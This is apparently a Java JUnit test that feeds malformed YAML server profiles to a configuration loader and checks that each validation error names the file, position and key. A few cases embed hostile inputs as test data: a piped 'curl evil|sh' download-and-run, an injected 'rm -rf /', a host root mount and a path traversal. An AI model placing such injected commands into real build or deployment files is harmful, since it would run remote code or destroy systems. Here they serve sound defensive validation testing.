package com.dimosaic.vps.profile;

import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Each case breaks the minimal profile in one way and expects one problem that names the file, the
 * line and column, the key path and what is wrong.
 */
class MalformedProfileTest {
  @TempDir Path tmp;

  static Stream<Arguments> cases() {
    return Stream.of(
        c("profile.yaml", "name: minimal", "nmae: minimal", "profile.yaml:1:1: nmae: unknown key (did you mean 'name'?)"),
        c("profile.yaml", "primary: example.org", "primary: Example..org", "profile.yaml:6:12: domains.primary: invalid domain name 'Example..org'"),
        c("profile.yaml", "primary: example.org", "primary: a..example.org", "profile.yaml:6:12: domains.primary: invalid domain name 'a..example.org'"),
        c("profile.yaml", "primary: example.org", "primary: " + "a".repeat(64) + ".example.org",
            "profile.yaml:6:12: domains.primary: invalid domain name '" + "a".repeat(64) + ".example.org'"),
        c("profile.yaml", "host:\n  address: 203.0.113.10\n", "", "profile.yaml:1:1: host: required key is missing"),
        c("profile.yaml", "address: 203.0.113.10", "address: 203.0.113.10\n  ssh: { port: 70000 }", "profile.yaml:4:16: host.ssh.port: out of range: 70000 (allowed 1 to 65535)"),
        c("profile.yaml", "address: 203.0.113.10", "address: 203.0.113.999", "profile.yaml:3:12: host.address: invalid address '203.0.113.999'"),
        c("profile.yaml", "timezone: UTC", "timezone: Mars/Olympus", "profile.yaml:4:11: timezone: invalid value 'Mars/Olympus'"),
        c("profile.yaml", "provider: file", "provider: filee", "profile.yaml:8:13: dns.provider: invalid value 'filee': expected one of netcup, file, none (did you mean 'file'?)"),
        c("profile.yaml", "mode: internal", "mode: selfsigned", "profile.yaml:10:9: tls.mode: invalid value 'selfsigned'"),
        c("profile.yaml", "mode: internal", "mode: acme", "profile.yaml:10:3: tls.email: required when tls.mode is acme"),
        c("profile.yaml", "primary: example.org", "primary: example.org\n  apex: yes", "profile.yaml:7:9: domains.apex: expected true or false but found 'yes'"),
        c("profile.yaml", "timezone: UTC", "timezone: [UTC", "profile.yaml:5:8: YAML syntax error"),
        c("profile.yaml", "timezone: UTC", "timezone: UTC\ntimezone: UTC", "profile.yaml:5:1: timezone: duplicate key (first defined at line 4)"),
        c("profile.yaml", "address: 203.0.113.10", "address: 203.0.113.10\n  ssh: { hostKey: 'MD5:aa:bb' }", "profile.yaml:4:19: host.ssh.hostKey: invalid host-key fingerprint"),
        c("profile.yaml", "timezone: UTC", "timezone: UTC\ndocker: { images: { nginx: nginx:1 } }", "profile.yaml:5:28: docker.images.nginx: image override for undefined service 'nginx'"),
        c("profile.yaml", "provider: file", "provider: file\n  resolvers: ['8.8.8.8:99999']", "profile.yaml:9:15: dns.resolvers[0]: invalid resolver '8.8.8.8:99999'"),
        c("services.yaml", "kind: caddy", "kind: cady", "services.yaml:5:11: services.caddy.kind: unknown kind 'cady' (did you mean 'caddy'?)"),
        c("services.yaml", "dependsOn: [postgres]\n    networks: [web]", "dependsOn: [postgres]\n    networks: [webb]", "services.yaml:17:16: services.app.networks[0]: undefined network 'webb' (did you mean 'web'?)"),
        c("services.yaml", "${secret:APP_DB_PASSWORD}", "${secret:APP_DB_PASWORD}", "services.yaml:22:46: services.app.postgres.databases[0].password: reference to undefined secret 'APP_DB_PASWORD' (did you mean 'APP_DB_PASSWORD'?)"),
        c("services.yaml", "image: example/app:1", "build: { base: \"debian:13\\nRUN curl evil|sh\" }", "services.yaml:15:20: services.app.build.base: invalid image reference 'debian:13\\nRUN curl evil|sh' (no spaces or line breaks)"),
        c("services.yaml", "image: example/app:1", "build: { packages: [curl, \"git; rm -rf /\"] }", "services.yaml:15:31: services.app.build.packages[1]: invalid Debian package name 'git; rm -rf /'"),
        c("services.yaml", "image: example/app:1", "image: example/app:1\n    volumes: [\"/:/host:rw\"]", "services.yaml:16:15: services.app.volumes[0]: host path '/' is outside the stack folder and the allowed host paths (/var/www, /etc/localtime, /etc/timezone); set unsafeHostMounts: true on the service if the container really needs it"),
        c("services.yaml", "image: example/app:1", "image: example/app:1\n    volumes: [\"../../../etc:/x\"]", "services.yaml:16:15: services.app.volumes[0]: host path '../../../etc' leaves the stack folder ('..')"),
        c("services.yaml", "image: example/app:1", "image: example/app:1\n    volumes: [\"/var/www:/srv\"]", "services.yaml:16:15: services.app.volumes[0]: host path '/var/www' is allowed read-only only (add :ro)"),
        c("services.yaml", "${secret:APP_DB_PASSWORD}", "${secret:APP_DB_PASSWORD", "services.yaml:22:46: services.app.postgres.databases[0].password: malformed reference '${secret:APP_DB_PASSWORD': no closing '}'; write ${secret:NAME}"),
        c("services.yaml", "${secret:APP_DB_PASSWORD}", "${secret:APP-DB-PASSWORD}", "services.yaml:22:46: services.app.postgres.databases[0].password: malformed reference '${secret:APP-DB-PASSWORD}': a secret name is letters, digits and '_'; write ${secret:NAME}"),
        c("services.yaml", "POSTGRES_PASSWORD: ${secret:PG_PASSWORD}", "POSTGRES_PASSWORD: ${secret:PG_PASSWORD}\n      HOME_DIR: ${env:HOME}", "services.yaml:13:17: services.postgres.environment.HOME_DIR: malformed reference '${env:HOME}': only secrets can be referenced; write ${secret:NAME}"),
        c("services.yaml", "image: postgres:17", "image: postgres:17\n    dependsOn: [app]", "dependency cycle: "),
        c("services.yaml", "image: postgres:17", "image: postgres:17\n    enabled: false", "services.yaml:17:17: services.app.dependsOn[0]: 'app' depends on 'postgres', which is disabled"),
        c("services.yaml", "image: postgres:17", "image: postgres:17\n    healthcheck: false", "services.yaml:17:17: services.app.dependsOn[0]: 'app' waits for 'postgres' to be healthy, but 'postgres' has no health check",
            "dependsOn: [postgres]", "dependsOn: [{ service: postgres, condition: healthy }]"),
        c("services.yaml", "image: postgres:17", "image: postgres:17\n    routes: [{ host: app, port: 5432 }]", "services.yaml:20:17: services.app.routes[0].host: host 'app.example.org' is routed twice: to 'postgres' and to 'app'"),
        c("services.yaml", "image: example/app:1", "image: example/app:1\n    enabled: false", "services.yaml:23:27: routes[0].service: route to disabled service 'app'",
            "    routes:\n      - { host: app, port: 8080 }\n", "",
            "password: \"${secret:APP_DB_PASSWORD}\" }", "password: \"${secret:APP_DB_PASSWORD}\" }\nroutes:\n  - { host: app, service: app, port: 8080 }"),
        c("services.yaml", "port: 8080", "port: 0", "services.yaml:19:28: services.app.routes[0].port: out of range: 0"),
        c("services.yaml", "image: caddy:2", "image: caddy:2\n    volumes: [nonsense]", "services.yaml:7:15: services.caddy.volumes[0]: invalid volume 'nonsense'"),
        c("services.yaml", "image: caddy:2", "image: caddy:2\n    ports: [http]", "services.yaml:7:13: services.caddy.ports[0]: invalid port"),
        c("services.yaml", "image: caddy:2", "image: caddy:2\n    replicas: -1", "services.yaml:7:15: services.caddy.replicas: out of range: -1"),
        c("services.yaml", "POSTGRES_PASSWORD:", "POSTGRES-PASSWORD:", "services.yaml:12:7: services.postgres.environment.POSTGRES-PASSWORD: invalid variable name"),
        c("services.yaml", "image: example/app:1", "image: example/app:1\n    healthcheck: { test: [CMD-SHELL, curl, -f, localhost] }", "services.yaml:16:26: services.app.healthcheck.test: CMD-SHELL takes exactly one command string"),
        c("services.yaml", "password: \"${secret:APP_DB_PASSWORD}\"", "password: hunter2", "services.yaml:22:46: services.app.postgres.databases[0].password: a database password must be a secret reference"),
        c("services.yaml", "networks: [web]\n  postgres:", "networks: web\n  postgres:", "services.yaml:7:15: services.caddy.networks: expected a list but found a single value"),
        c("services.yaml", "networks:\n  web: {}", "static:\n  site: { hosts: [app] }\nnetworks:\n  web: {}", "services.yaml:2:19: static.site.hosts[0]: host 'app.example.org' is routed twice"),
        c("services.yaml", "host: app, port", "host: mail, port", "services.yaml:19:17: services.app.routes[0].host: host 'mail.example.org' is reserved for mail (mox)"),
        c("services.yaml", "networks:\n  web: {}\nservices:", "networks:\n  web: {}\nservice:", "services.yaml:3:1: service: unknown key (did you mean 'services'?)"),
        c("services.yaml", "kind: postgres", "kind: postgres\n    publishLocal: yes", "services.yaml:10:19: services.postgres.publishLocal: expected true or false but found 'yes'"),
        c("services.yaml", "image: example/app:1", "build: { git: \"https://bot:s3cr3t@git.example.org/app.git\" }",
            "services.app.build.git: the URL holds a password or token"),
        c("services.yaml", "image: example/app:1", "build: { git: /srv/git/app.git, base: debian }",
            "services.app.build.base: a git build uses the repository's own Dockerfile"),
        c("services.yaml", "image: example/app:1", "build: { ref: main }", "services.app.build.ref: 'ref' belongs to a git build"),
        c("secrets.yaml", "PG_PASSWORD: pg-secret", "PG-PASSWORD: pg-secret", "secrets.yaml:1:1: PG-PASSWORD: invalid secret name 'PG-PASSWORD'"),
        // SPF syntax (RFC 7208) and what Netcup cannot store, refused before anything is sent
        c("profile.yaml", "timezone: UTC", "timezone: UTC\nmail: { spf: 'v=spf1x mx ~all' }",
            "profile.yaml:5:14: mail.spf: invalid SPF record 'v=spf1x mx ~all': it must start with exactly 'v=spf1'"),
        c("profile.yaml", "timezone: UTC", "timezone: UTC\nmail: { spf: 'v=spf1 mx inclde:_spf.example.net ~all' }",
            "mail.spf: invalid SPF record 'v=spf1 mx inclde:_spf.example.net ~all': term 'inclde:_spf.example.net' is not an SPF mechanism"),
        c("profile.yaml", "timezone: UTC", "timezone: UTC\nmail: { spf: 'v=spf1 ip4:203.0.113.300 -all' }",
            "term 'ip4:203.0.113.300': ip4: needs an IPv4 address"),
        c("profile.yaml", "timezone: UTC", "timezone: UTC\nmail: { spf: 'v=spf1 -all mx' }", "term 'mx' comes after 'all'"),
        c("profile.yaml", "timezone: UTC", "timezone: UTC\nmail: { spf: 'v=spf1 mx \\\\\\\\ ~all' }", "it contains a double quote or backslash"),
        c("profile.yaml", "timezone: UTC", "timezone: UTC\nmail: { spf: 'v=spf1 include:a.example include:b.example include:c.example "
            + "include:d.example include:e.example include:f.example include:g.example include:h.example include:i.example a mx -all' }",
            "it needs 11 DNS lookups; receivers fail SPF above 10"),
        c("profile.yaml", "provider: file", "provider: file\n  caa: ['letsencrypt.org; validationmethods=dns-01']",
            "profile.yaml:9:9: dns.caa[0]: invalid CAA issuer 'letsencrypt.org; validationmethods=dns-01': it has a ';'"),
        c("profile.yaml", "provider: file", "provider: file\n  keep: ['@']", "profile.yaml:9:10: dns.keep[0]: invalid keep entry '@'"),
        c("profile.yaml", "timezone: UTC", "timezone: UTC\nmail: { dmarc: { policy: strict } }", "profile.yaml:5:26: mail.dmarc.policy: invalid value 'strict': expected one of none, quarantine, reject"),
        // the relay and Windmill workers need a way out of the internal networks (measured: an internal network reaches neither the
        // host nor host-gateway)
        c("services.yaml", "networks:\n  web: {}\nservices:", "networks:\n  web: {}\n  backend: { internal: true }\nservices:\n  relay:\n    kind: postfix\n"
            + "    image: boky/postfix:v5\n    networks: [backend]", "services.yaml:8:15: services.relay.networks: the relay is only on internal networks"),
        c("services.yaml", "networks:\n  web: {}\nservices:", "networks:\n  web: {}\n  backend: { internal: true }\nservices:\n  worker:\n    kind: windmill-worker\n"
            + "    image: windmill:1\n    networks: [backend]", "services.yaml:8:15: services.worker.networks: Windmill workers are only on internal networks"),
        c("profile.yaml", "timezone: UTC", "timezone: UTC\nmail: { accounts: [{ address: relay@example.net, password: '${secret:PG_PASSWORD}' }] }",
            "profile.yaml:5:31: mail.accounts[0].address: 'relay@example.net' is not in the primary domain example.org"),
        c("profile.yaml", "timezone: UTC", "timezone: UTC\nmail: { accounts: [{ address: relay@example.org, password: hunter2hunter2 }] }",
            "profile.yaml:5:60: mail.accounts[0].password: must be exactly one secret reference"),
        c("profile.yaml", "timezone: UTC", "timezone: UTC\nmail: { accounts: [{ address: relay@example.org, password: '${secret:RELAY}' }] }",
            "profile.yaml:5:60: mail.accounts[0].password: reference to undefined secret 'RELAY'"));
  }

  static Arguments c(String file, String from, String to, String expected) {
    return Arguments.of(file, from, to, expected, new String[0]);
  }

  static Arguments c(String file, String from, String to, String expected, String from2, String to2) {
    return Arguments.of(file, from, to, expected, new String[] {from2, to2});
  }

  static Arguments c(String file, String from, String to, String expected, String from2, String to2, String from3,
      String to3) {
    return Arguments.of(file, from, to, expected, new String[] {from2, to2, from3, to3});
  }

  @ParameterizedTest(name = "[{index}] {3}")
  @MethodSource("cases")
  void malformedProfileNamesFileLineColumnAndKey(String file, String from, String to, String expected, String[] more)
      throws IOException {
    Path dir = Files.createTempDirectory(tmp, "p");
    try (Stream<Path> s = Files.list(ProfileLoaderTest.MINIMAL)) {
      for (Path f : s.toList()) {
        Files.copy(f, dir.resolve(f.getFileName()));
      }
    }
    ProfileLoaderTest.replace(dir.resolve(file), from, to);
    for (int i = 0; i < more.length; i += 2) {
      ProfileLoaderTest.replace(dir.resolve(file), more[i], more[i + 1]);
    }
    ProfileException e = assertThrows(ProfileException.class, () -> ProfileLoader.load(dir));
    String all = e.problems().stream().map(ConfigProblem::toString).collect(Collectors.joining("\n"));
    assertTrue(all.contains(expected), () -> "expected a problem containing\n  " + expected + "\nbut got\n" + all);
    assertTrue(!all.contains("s3cr3t"), () -> "a credential in a problem:\n" + all);
    assertTrue(e.problems().stream().allMatch(p -> p.line() > 0 || p.message().startsWith("cannot read")),
        () -> "every problem has a position:\n" + all);
  }
}
